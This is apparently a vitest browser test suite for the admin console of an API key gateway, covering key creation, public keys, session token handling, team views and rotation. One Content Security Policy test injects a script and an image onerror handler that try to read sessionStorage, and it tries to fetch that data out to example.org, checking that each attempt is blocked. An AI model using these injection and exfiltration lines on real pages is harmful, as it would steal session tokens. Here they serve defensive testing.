import { generateKeyPairSync } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startChromium, type Chromium, type Tab } from '../support/chromium.ts';
import { eventually } from '../support/eventually.ts';
import {
  adminToken,
  click,
  fill,
  namesIn,
  openKeys,
  startKeysGateway,
  textOf,
  waitForFocus,
  waitForList,
  waitForMessage,
  type KeysGateway,
} from './keys-gateway.ts';

let browser: Chromium;
let own: KeysGateway;

beforeAll(async () => {
  [browser, own] = await Promise.all([startChromium(), startKeysGateway()]);
  const createdAt = '2026-01-01T00:00:00.000Z';
  await own.add([
    { name: 'one', createdAt, permissions: { team: 'acme', daily: '1000', origins: 'app.example.org' } },
    { name: 'two', createdAt, permissions: { team: 'acme', daily: '1000' } },
    { name: 'other', createdAt, permissions: { team: 'beta' } },
  ]);
}, 60_000);
afterAll(async () => {
  await browser.close();
  await own.stop();
});

const submit = (tab: Tab, form: string): Promise<unknown> =>
  tab.evaluate(`document.getElementById('${form}').requestSubmit()`);
const valueOf = (tab: Tab, id: string): Promise<string> => tab.evaluate(`document.getElementById('${id}').value`);

/** Selects a value as its user does. */
const choose = (tab: Tab, selector: string, value: string): Promise<unknown> =>
  tab.evaluate(`(() => {
    const select = document.querySelector(${JSON.stringify(selector)});
    select.value = ${JSON.stringify(value)};
    select.dispatchEvent(new Event('change', { bubbles: true }));
  })()`);

async function records(): Promise<Record<string, unknown>[]> {
  const response = await fetch(`${own.ops}/admin/keys`, { headers: { authorization: `Bearer ${adminToken}` } });
  return ((await response.json()) as { keys: Record<string, unknown>[] }).keys;
}

describe('the form for a key', () => {
  it('offers what exists, a date, and switches', async () => {
    const tab = await openKeys(browser, own.ops, {}, '#new');
    await waitForFocus(tab, 'create-title');
    await fill(tab, 'name', 'chosen');
    await choose(tab, '#new-networks + select', 'five');
    await choose(tab, '#new-methods + select', 'eth');
    await choose(tab, '#new-methods + select', 'net_version');
    await choose(tab, '#new-origins + select', 'app.example.org');
    await choose(tab, '#new-team + select', 'acme');
    expect(await valueOf(tab, 'new-methods')).toBe('eth,net_version');
    expect(
      await tab.evaluate(
        `[...document.querySelector('#new-methods + select').options].some(({ value }) => value === 'eth')`,
      ),
    ).toBe(false);
    await fill(tab, 'new-expiresAt', '2099-01-31T12:00');
    await click(tab, '#new-permissions-explain');
    await submit(tab, 'create');
    await waitForMessage(tab, 'Created key ');
    expect((await records()).find(({ name }) => name === 'chosen')).toMatchObject({
      permissions: {
        ...{ networks: 'five', methods: 'eth,net_version', origins: 'app.example.org', team: 'acme' },
        ...{ expiresAt: '2099-01-31T12:00:00Z', permissions: 'explain' },
      },
    });
    await click(tab, '#stored');
    const link = `[...document.querySelectorAll('#list a')].find(({ innerText }) => innerText === 'chosen')`;
    await waitForList(tab, `${link} !== undefined`);
    await tab.evaluate(`${link}.click()`);
    await waitForFocus(tab, 'key-title');
    expect(await valueOf(tab, 'permission-expiresAt')).toBe('2099-01-31T12:00');
    expect(await tab.evaluate(`document.getElementById('permission-permissions-explain').checked`)).toBe(true);
    await click(tab, '#permission-permissions-explain');
    await fill(tab, 'permission-expiresAt', '');
    await submit(tab, 'permissions');
    await waitForMessage(tab, 'Saved permissions');
    const { permissions } = (await records()).find(({ name }) => name === 'chosen') as { permissions: object };
    expect(Object.keys(permissions).sort()).toEqual(['methods', 'networks', 'origins', 'team']);
    expect(tab.errors).toEqual([]);
  }, 60_000);

  it('warns before a reload loses a new key, and only then', async () => {
    const tab = await openKeys(browser, own.ops, {}, '#new');
    const isStopped = `!window.dispatchEvent(new Event('beforeunload', { cancelable: true }))`;
    expect(await tab.evaluate(isStopped)).toBe(false);
    await fill(tab, 'name', 'shown-once');
    await submit(tab, 'create');
    await waitForMessage(tab, 'Created key ');
    expect(await tab.evaluate(isStopped)).toBe(true);
    await click(tab, '#stored');
    expect(await tab.evaluate(isStopped)).toBe(false);
  }, 60_000);
});

describe('the public keys of a key', () => {
  it('are listed, added from PEM and removed', async () => {
    const tab = await openKeys(browser, own.ops);
    const link = `[...document.querySelectorAll('#list a')].find(({ innerText }) => innerText === 'other')`;
    await waitForList(tab, `${link} !== undefined`);
    await tab.evaluate(`${link}.click()`);
    await waitForFocus(tab, 'key-title');
    expect(await textOf(tab, 'token-keys')).toBe('None: the key itself is sent with requests.');
    await fill(tab, 'token-key-name', 'ci');
    await fill(tab, 'publicKey', 'no key');
    await submit(tab, 'add-token-key');
    await tab.waitFor(
      `(document.getElementById('message').innerText + document.getElementById('publicKey-error').innerText) !== ''`,
    );
    const { publicKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' });
    await fill(tab, 'publicKey', publicKey.export({ type: 'spki', format: 'pem' }).toString());
    await submit(tab, 'add-token-key');
    await waitForMessage(tab, 'Tokens that ci signs are accepted.');
    expect(await textOf(tab, 'token-keys')).toMatch(/ci\s+ES256\s+[0-9a-f]{32}\s+Remove/);
    expect(await valueOf(tab, 'publicKey')).toBe('');
    await click(tab, '#token-keys button');
    await waitForMessage(tab, 'Tokens that ci signed are rejected within a second.');
    expect(await textOf(tab, 'token-keys')).toMatch(/^None/);
  }, 60_000);
});

describe('the token', () => {
  it('stays in the tab over a reload and on the upstreams page, until the user signs out', async () => {
    const tab = await openKeys(browser, own.ops);
    await tab.evaluate('window.isOld = true, location.reload()');
    await tab.waitFor(`window.isOld === undefined && document.getElementById('list-view')?.hidden === false`);
    expect(await valueOf(tab, 'token')).toBe('');
    await tab.evaluate(`document.querySelector('#console a[href="/upstreams"]').click()`);
    await tab.waitFor(`location.pathname === '/upstreams' && document.querySelector('#list button') !== null`);
    await tab.evaluate(`document.getElementById('sign-out').click()`);
    await tab.waitFor(`document.getElementById('login')?.hidden === false && sessionStorage.length === 0`);
    expect(await tab.evaluate(`document.getElementById('list-view').hidden`)).toBe(true);
    expect(tab.errors).toEqual([]);
  }, 60_000);

  it('can be read by no other script: the policy of the pages rejects it', async () => {
    const tab = await openKeys(browser, own.ops);
    await tab.evaluate(
      `document.body.append(Object.assign(document.createElement('script'), { textContent: 'window.stolen = sessionStorage.length' }))`,
    );
    await tab.evaluate(
      `document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.stolen = 1">')`,
    );
    await eventually(() => tab.errors.length > 0);
    expect(tab.errors.join()).toContain('Content Security Policy');
    expect(await tab.evaluate('typeof window.stolen')).toBe('undefined');
    const send = `fetch('https://example.org/?' + sessionStorage.length).then(() => 'sent', () => 'rejected')`;
    expect(await tab.evaluate(send)).toBe('rejected');
  }, 60_000);

  it('is forgotten if it is not valid any more', async () => {
    const tab = await browser.open(`${own.ops}/keys`);
    await tab.evaluate(`sessionStorage.setItem('gatehouse-admin-token', 'a-token-that-is-wrong')`);
    await tab.evaluate('location.reload()');
    await tab.waitFor(`document.getElementById('token-error')?.innerText.startsWith('expected the token')`);
    expect(await tab.evaluate('sessionStorage.length')).toBe(0);
  }, 60_000);
});

describe('the list and the views of keys and teams', () => {
  it('filters by team, shows the quota, renames a key, and has a view of the team', async () => {
    const tab = await openKeys(browser, own.ops);
    await choose(tab, '#team', 'beta');
    await waitForList(
      tab,
      `document.getElementById('list').ariaBusy === null && document.querySelectorAll('#list tbody tr').length === 1`,
    );
    expect(await namesIn(tab)).toEqual(['other']);
    await choose(tab, '#team', '');
    await waitForList(tab, `document.querySelectorAll('#list tbody tr').length > 2`);
    await tab.evaluate(
      `[...document.querySelectorAll('#list a')].find(({ innerText }) => innerText === 'two').click()`,
    );
    await waitForFocus(tab, 'key-title');
    expect(await textOf(tab, 'quotas')).toMatch(/0 of 1,000 units of the day used, 1,000 left for \d+ hours?/);
    await fill(tab, 'new-name', ' renamed ');
    await submit(tab, 'rename');
    await waitForMessage(tab, 'has the name renamed.');
    expect(await textOf(tab, 'key-title')).toBe('renamed');
    await fill(tab, 'new-name', ' ');
    await submit(tab, 'rename');
    await tab.waitFor(
      `document.getElementById('new-name-error').innerText === 'expected 1 to 64 printable characters'`,
    );
    await tab.evaluate(`location.hash = 'team:acme'`);
    await waitForFocus(tab, 'team-title');
    expect(await textOf(tab, 'team-title')).toBe('Team acme');
    const names = `[...document.querySelectorAll('#team-keys a')].map(({ innerText }) => innerText).sort()`;
    expect(await tab.evaluate(names)).toEqual(expect.arrayContaining(['one', 'renamed']));
    expect(await textOf(tab, 'team-quotas')).toContain('of 1,000 units of the day used');
  }, 60_000);

  it('sorts by use, and keeps the usage of a key that was rotated', async () => {
    const call = (key: string) =>
      fetch(`${own.gateway.address}/five/v3/${key}`, {
        method: 'POST',
        body: '{"jsonrpc":"2.0","id":1,"method":"eth_blockNumber"}',
      });
    await call(own.gateway.key);
    const tab = await openKeys(browser, own.ops);
    await choose(tab, '#sort', '-use');
    await waitForList(
      tab,
      `(document.getElementById('list').ariaBusy === 'true' || void showList(), document.querySelector('#list tbody a')?.innerText === 'test')`,
    );
    await click(tab, '#list tbody a');
    await waitForFocus(tab, 'key-title');
    await submit(tab, 'rotate');
    await waitForMessage(tab, 'which stays valid for 24h.');
    await tab.waitFor(`document.getElementById('usage').innerText.startsWith('With 1 key that rotation replaced.')`);
    expect(await textOf(tab, 'usage')).toContain('1 call');
    expect(await textOf(tab, 'key-facts')).toMatch(/last used \d{4}-\d\d-\d\d/);
  }, 60_000);
});
